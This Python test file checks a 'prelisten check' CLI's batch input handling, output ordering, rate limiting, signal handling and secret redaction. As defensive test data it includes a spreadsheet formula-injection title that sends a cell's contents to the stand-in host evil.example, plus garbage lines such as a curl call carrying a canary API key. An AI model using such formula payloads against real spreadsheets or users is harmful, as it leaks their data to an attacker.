# SPDX-License-Identifier: MIT
"""`prelisten check` on many references: how it reads the list, the order and format of its output, its rate limits, and its exit status."""
import csv
import io
import json
import os
import pty
import select
import signal
import subprocess
import time
import unittest
from pathlib import Path

from harness import processes
from harness.sandbox import KEY, ORGANIZATION
from harness.scenario import BIN_DIR, SLACK, Scenario
from harness.session import home_environment

PLAYABLE, NOT_AVAILABLE, USAGE, KEY_PROBLEM, NETWORK = range(5)
INTERRUPTED, TERMINATED, READER_GONE = 130, 143, 141
PASTED_KEY = "oak_live_PastedCanary0123456789"
HOSTILE_TITLE = '=HYPERLINK("https://evil.example/?"&A1,"Late, Night")'
READY = 120 * SLACK  # seconds that any step may take


def library(count):
    return [f"mtrack_lib{number:06d}" for number in range(count)]


def rows_of(text, form):
    """The rows of an output, parsed strictly."""
    if form == "json":
        return json.loads(text)
    return list(csv.DictReader(io.StringIO(text, newline=""), strict=True))


class Lists(Scenario):
    seconds = 1
    stems = ("drums",)
    keys = (KEY, PASTED_KEY)
    metadata = {"title": HOSTILE_TITLE}

    def arguments(self, *arguments):
        return ("check", "--api-base", self.service.api, "--organization", ORGANIZATION, *arguments)

    def start(self, *arguments, key=KEY, **streams):
        """Starts the command. Its stdin is empty unless @p streams gives one. Unbuffered, so that its output can be read while it runs."""
        environment = {**os.environ, **home_environment(self.folder / "command"), "FREDDY_API_KEY": key}
        streams = {"stdin": subprocess.DEVNULL, "stdout": subprocess.PIPE, "stderr": subprocess.PIPE, **streams}
        process = processes.start([BIN_DIR / "prelisten", *self.arguments(*arguments)], env=environment, bufsize=0, **streams)
        self.addCleanup(processes.stop, process)
        return process

    def list_file(self, lines):
        path = Path(self._folder.name) / "list"  # outside the folder that is searched for leaks, since the list itself may hold secrets
        path.write_text("\n".join(lines) + "\n", encoding="utf-8")
        return str(path)

    def check(self, *arguments, lines=(), **options):
        done = self.run_command(*self.arguments("--input", self.list_file(lines), *arguments), key=KEY, seconds=READY, **options)
        self.assertNoSecret(done.stdout, done.stderr)
        return done

    def assertNoSecret(self, *texts):
        for text in texts:
            for secret in (KEY, PASTED_KEY, "sig=", "storage."):
                self.assertNotIn(secret, text)

    # --- many ---------------------------------------------------------------------------------------------------------
    def test_aThousandReferencesKeepTheLimitAndTheirOrder(self):
        self.start_service(library=1000, requests_per_minute=300, rate_window=1)
        wanted = library(1000)[::-1]
        done = self.check("--rate", "0", "--format", "csv", lines=wanted)
        self.assertEqual(done.returncode, PLAYABLE, done.stderr)
        rows = rows_of(done.stdout, "csv")
        self.assertEqual([row["track_id"] for row in rows], wanted)
        self.assertEqual({row["verdict"] for row in rows}, {"playable"})
        self.assertEqual(self.service.counts["overLimit"], 0)
        self.assertEqual(self.service.counts["storageRequests"], 0, "a link was used")
        self.assertEqual(done.stderr, "", "there is no terminal to show progress on")

    def test_tenThousandLinesWithGarbageLoseNothing(self):
        self.start_service(library=1000)
        garbage = ['"oops', "hello, world", f"curl -H 'X-API-Key: {PASTED_KEY}' https://a/", "\u202eevil", "=1+1", "mtrack_",
                   "https://storage.aitronos.com/x.mp3?sig=Canary", "'", "{}", "\\"]
        known = library(1000)
        lines = [garbage[number // 10 % 10] if number % 10 == 7 else known[number % 1000] for number in range(10_000)]
        for form in ("csv", "json"):
            with self.subTest(form):
                done = self.check("--rate", "0", "--format", form, lines=lines)
                rows = rows_of(done.stdout, form)
                found = {}
                for row in rows:
                    numbers = [int(number) for number in row["lines"].split()] if form == "csv" else row["lines"]
                    for number in numbers:
                        self.assertNotIn(number, found)
                        found[number] = row
                self.assertEqual(sorted(found), list(range(1, 10_001)))
                for number, row in found.items():
                    if number % 10 == 8:
                        self.assertEqual(row["verdict"], "bad_reference")
                    else:
                        self.assertEqual((row["verdict"], row["track_id"]), ("playable", lines[number - 1]))
                self.assertEqual(done.returncode, USAGE, "bad references are the worst of it")

    def test_memoryStaysFlat(self):
        if SLACK > 1:
            self.skipTest("a sanitizer has memory of its own")
        self.start_service(library=10_000)
        peaks = []
        for count in (1000, 10_000):
            path = self.list_file(library(count))
            process = self.start("--rate", "0", "--input", path, "--format", "csv", stdout=subprocess.DEVNULL)
            _, status, usage = os.wait4(process.pid, 0)
            process.returncode = os.waitstatus_to_exitcode(status)
            process.stderr.close()
            self.assertEqual(process.returncode, PLAYABLE)
            peaks.append(usage.ru_maxrss / 1024)
        print(f"peak memory: {peaks[0]:.1f} MiB for 1,000 rows, {peaks[1]:.1f} MiB for 10,000")
        self.assertLess(peaks[1] - peaks[0], 24, "MiB for 9,000 rows more")

    # --- the output ----------------------------------------------------------------------------------------------
    def test_aHostileTitleIsInertAndComesBack(self):
        self.start_service()
        done = self.check("--format", "csv", "--deep", lines=[self.track.id])
        row = rows_of(done.stdout, "csv")[0]
        self.assertEqual(row["title"], "'" + HOSTILE_TITLE)
        self.assertEqual(row["licence"], "Personal use only")
        self.assertNotIn("\n=", done.stdout.replace(",", "\n"))
        row = rows_of(self.check("--format", "json", lines=[self.track.id]).stdout, "json")[0]
        self.assertEqual(row["title"], HOSTILE_TITLE)
        self.assertEqual(row["key"], KEY[:len(KEY) // 4] + "… (environment)")

    def test_aDeepCheckSaysWhichSourceIsSpoiled(self):
        self.start_service()
        rows = rows_of(self.check("--format", "json", "--deep", lines=[self.track.id]).stdout, "json")
        self.assertEqual([(source["source"], source["verdict"]) for source in rows[0]["deep"]],
                         [("master", "playable"), ("drums", "playable")])
        self.service.fault("storage:status=403", source="drums")
        done = self.check("--format", "csv", "--deep", lines=[self.track.id])
        row = rows_of(done.stdout, "csv")[0]
        self.assertEqual(row["verdict"], "playable", "the service gives the track")
        self.assertRegex(row["deep"], r"^master: playable.*; drums: service")
        self.assertTrue(row["message"])
        self.assertEqual(done.returncode, NETWORK)

    def test_aTableIsReadByItsContent(self):
        self.start_service()
        lines = ["ticket;organization;what", f'1;{ORGANIZATION};"{self.track.id}"', "2;org_elsewhere;mtrack_nowhere", "3;;garbage"]
        rows = rows_of(self.check("--rate", "0", "--format", "json", lines=lines).stdout, "json")
        self.assertEqual([(row["verdict"], row["organization_id"], row["lines"]) for row in rows],
                         [("playable", ORGANIZATION, [2]), ("organization_problem", "org_elsewhere", [3]), ("bad_reference", "", [4])])

    # --- how it ends ----------------------------------------------------------------------------------------------------
    def test_aSignalLeavesWhatIsKnown_complete(self):
        self.start_service(library=1000)
        path = self.list_file(library(1000))
        for form, number, code in (("csv", signal.SIGINT, INTERRUPTED), ("json", signal.SIGINT, INTERRUPTED),
                                   ("csv", signal.SIGTERM, TERMINATED)):
            with self.subTest(form=form, number=number):
                process = self.start("--rate", "20", "--input", path, "--format", form)
                head = b"".join(process.stdout.readline() for _ in range(8))
                process.send_signal(number)
                output, errors = process.communicate(timeout=READY)
                self.assertEqual(process.returncode, code, errors)
                rows = rows_of((head + output).decode(), form)
                self.assertGreaterEqual(len(rows), 6)
                self.assertLess(len(rows), 900)
                self.assertEqual([row["track_id"] for row in rows], library(len(rows)))
                self.assertNotIn("not_checked", {row["verdict"] for row in rows})
                self.assertEqual(errors, b"")

    def test_aReaderThatGoesAwayEndsItQuietly(self):
        self.start_service(library=1000)
        process = self.start("--rate", "0", "--input", self.list_file(library(1000)), "--format", "csv")
        process.stdout.readline()
        process.stdout.close()
        self.assertEqual(process.wait(READY), READER_GONE)
        with process.stderr as errors:
            self.assertEqual(errors.read(), b"")

    @unittest.skipUnless(os.path.exists("/dev/full"), "needs a disk that is always full")
    def test_aFullDiskIsTold(self):
        self.start_service()
        with open("/dev/full", "wb") as full:
            process = self.start(self.track.id, stdout=full)
            _, errors = process.communicate(timeout=READY)
        self.assertEqual(process.returncode, NETWORK)
        self.assertIn(b"cannot be written", errors)

    def test_aListThatCannotBeReadIsExplained(self):
        self.start_service()
        binary = self.folder / "binary"
        binary.write_bytes(b"PK\x03\x04\x00\x00")
        for name, word in ((self.folder / "missing", "cannot be read"), (self.folder, "folder"), (binary, "no text")):
            with self.subTest(word):
                done = self.run_command(*self.arguments("--input", str(name)), key=KEY)
                self.assertEqual((done.returncode, done.stdout), (USAGE, ""))
                self.assertIn(word, done.stderr)

    # --- with a user at the terminal ------------------------------------------------------------------------------------
    def read_terminal(self, terminal, until, seconds=READY):
        text, deadline = b"", time.monotonic() + seconds
        while not until(text) and time.monotonic() < deadline:
            ready, _, _ = select.select([terminal], [], [], 0.2)
            if ready:
                try:
                    text += os.read(terminal, 4096)
                except OSError:  # the other end was closed
                    break
        return text.decode(errors="replace")

    def test_progressIsShownOnATerminal_andGoesAway(self):
        self.start_service(library=100)
        ours, theirs = pty.openpty()
        process = self.start("--rate", "20", "--input", self.list_file(library(40)), "--format", "csv", stderr=theirs)
        os.close(theirs)
        output, _ = process.communicate(timeout=READY)
        shown = self.read_terminal(ours, lambda text: False)
        os.close(ours)
        self.assertEqual(len(rows_of(output.decode(), "csv")), 40)
        self.assertRegex(shown, r"\d+ of 40, about \d+ s left")
        self.assertTrue(shown.endswith("\r\x1b[K"), repr(shown[-40:]))

    def test_aTerminalIsAskedForReferences(self):
        self.start_service()
        ours, theirs = pty.openpty()
        process = self.start("--input", "-", "--format", "json", stdin=theirs)
        os.close(theirs)
        self.assertIn(b"Ctrl+D", process.stderr.readline())
        os.write(ours, f"{self.track.id}\n".encode())
        os.write(ours, b"\x04")
        output, _ = process.communicate(timeout=READY)
        os.close(ours)
        self.assertEqual(rows_of(output.decode(), "json")[0]["verdict"], "playable")


if __name__ == "__main__":
    unittest.main()
